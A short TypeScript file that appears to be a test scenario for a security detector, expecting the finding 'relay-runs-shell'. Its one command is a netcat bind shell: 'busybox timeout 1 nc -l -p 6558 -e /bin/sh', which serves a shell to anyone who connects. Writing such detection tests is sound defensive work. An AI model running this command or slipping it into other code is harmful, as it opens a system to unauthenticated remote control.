import { type Scenario, sh } from '../scenario.ts';

export const scenario: Scenario = {
  name: 'a tool hands whoever comes a shell',
  words: sh('busybox timeout 1 nc -l -p 6558 -e /bin/sh || true'),
  opens: ['relay-runs-shell'],
};
